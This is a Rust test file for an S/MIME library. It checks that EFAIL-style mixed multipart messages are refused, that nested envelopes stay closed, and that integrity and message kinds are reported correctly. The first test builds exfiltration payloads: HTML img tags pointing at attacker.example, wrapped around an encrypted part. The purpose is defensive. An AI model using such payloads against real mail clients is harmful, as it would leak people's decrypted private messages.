//! EFAIL (2018): what is encrypted only in part is not opened, and nothing of it leaves.

use seal::smime::{
    Cipher, Integrity, Kind, SmimeError, decrypt, encrypt, kind, open_message, sign,
};

use super::persons::{Counting, NURSE, PAT, believing, noon};

const SECRET: &[u8] = b"Content-Type: text/plain\r\n\r\nThe diagnosis.\r\n";

fn sealed() -> Vec<u8> {
    let to = [PAT.certificate()];
    encrypt(SECRET, &to, Cipher::Aes256Cbc, &Counting::new()).expect("sealed")
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

/// A multipart of these parts.
fn around(kind: &str, parts: &[String]) -> String {
    let mut out = format!("Content-Type: multipart/{kind}; boundary=\"b\"\r\n\r\n");
    for part in parts {
        out.push_str(&format!("--b\r\n{part}\r\n"));
    }
    out + "--b--\r\n"
}

#[test]
fn a_page_that_would_lead_the_text_away_gets_nothing() {
    let image = "Content-Type: text/html\r\n\r\n<img src=\"http://attacker.example/".to_owned();
    let end = "Content-Type: text/html\r\n\r\n\">".to_owned();
    let inner = text(&sealed());
    let nested = around("alternative", std::slice::from_ref(&inner))
        .replace("b\"", "c\"")
        .replace("--b", "--c");
    for attack in [
        around("mixed", &[image.clone(), inner.clone(), end.clone()]),
        around("related", &[inner.clone(), end.clone()]),
        around("mixed", std::slice::from_ref(&inner)),
        around("mixed", &[image.clone(), nested]),
        // the closing delimiter is missing, so that two readers see different parts
        around("mixed", &[image, inner.clone()]).replace("--b--", ""),
        // two content types
        format!("Content-Type: text/html\r\n{inner}"),
    ] {
        assert_eq!(kind(attack.as_bytes()), Kind::Mixed, "{attack}");
        assert_eq!(
            decrypt(attack.as_bytes(), &[&PAT]).err(),
            Some(SmimeError::Mixed)
        );
        let opened = open_message(attack.as_bytes(), &[&PAT], &believing(&[]), noon());
        assert_eq!(opened.err(), Some(SmimeError::Mixed));
    }
}

#[test]
fn an_envelope_inside_an_envelope_stays_closed() {
    let mixed = around("mixed", &[text(&sealed())]);
    for inside in [text(&sealed()), mixed] {
        let to = [PAT.certificate()];
        let rng = Counting::new();
        let outer = encrypt(inside.as_bytes(), &to, Cipher::Aes256Gcm, &rng).expect("sealed");
        let opened = open_message(&outer, &[&PAT], &believing(&[]), noon()).expect("opened");
        assert!(!text(&opened.entity).contains("diagnosis"));
    }
}

#[test]
fn without_signature_or_authenticating_cipher_nothing_vouches_for_the_text() {
    let opened = open_message(&sealed(), &[&PAT], &believing(&[]), noon()).expect("opened");
    assert_eq!(opened.integrity, Integrity::None);
    // a stranger may sign what he cannot read
    let around = sign(&sealed(), &NURSE, noon()).expect("signed");
    let opened = open_message(&around, &[&PAT], &believing(&[&NURSE]), noon()).expect("opened");
    assert_eq!(opened.integrity, Integrity::None);
    assert!(opened.signed.is_none() && opened.signed_outside.is_some());
    // whoever signs inside has read it
    let signed = sign(SECRET, &NURSE, noon()).expect("signed");
    let to = [PAT.certificate()];
    let inside = encrypt(&signed, &to, Cipher::Aes256Cbc, &Counting::new()).expect("sealed");
    let opened = open_message(&inside, &[&PAT], &believing(&[&NURSE]), noon()).expect("opened");
    assert_eq!(opened.integrity, Integrity::Signed);
    assert_eq!(opened.entity, SECRET);
    let opened = open_message(&inside, &[&PAT], &believing(&[]), noon()).expect("opened");
    assert_eq!(
        opened.integrity,
        Integrity::None,
        "nobody believes this signer"
    );
}

#[test]
fn each_kind_is_told_by_what_it_is_and_not_by_what_it_claims() {
    let signed = sign(SECRET, &NURSE, noon()).expect("signed");
    let claims = text(&sealed()).replace("enveloped-data", "signed-data");
    let named = text(&sealed()).replace("application/pkcs7-mime", "application/octet-stream");
    let forwarded = format!("Content-Type: message/rfc822\r\n\r\n{}", text(&sealed()));
    for (entity, expected) in [
        (text(SECRET), Kind::Plain),
        (text(&signed), Kind::Signed),
        (text(&sealed()), Kind::Encrypted),
        (claims, Kind::Encrypted),
        (named, Kind::Encrypted),
        (around("mixed", &[text(SECRET)]), Kind::Plain),
        (around("mixed", &[forwarded]), Kind::Plain),
        (around("mixed", &[text(&signed), text(SECRET)]), Kind::Plain),
        (
            "Content-Type: application/pkcs7-mime\r\n\r\nnoise".to_owned(),
            Kind::Unreadable,
        ),
    ] {
        assert_eq!(kind(entity.as_bytes()), expected, "{entity}");
    }
}

#[test]
fn a_changed_envelope_is_told_where_the_cipher_can() {
    let to = [PAT.certificate()];
    let sealed = encrypt(SECRET, &to, Cipher::Aes256Gcm, &Counting::new()).expect("sealed");
    let sealed = text(&sealed);
    let last = sealed.trim_end().len() - 8;
    let other = if &sealed[last..=last] == "A" {
        "B"
    } else {
        "A"
    };
    let changed = format!("{}{other}{}", &sealed[..last], &sealed[last + 1..]);
    assert_eq!(
        decrypt(changed.as_bytes(), &[&PAT]).err(),
        Some(SmimeError::Damaged)
    );
}
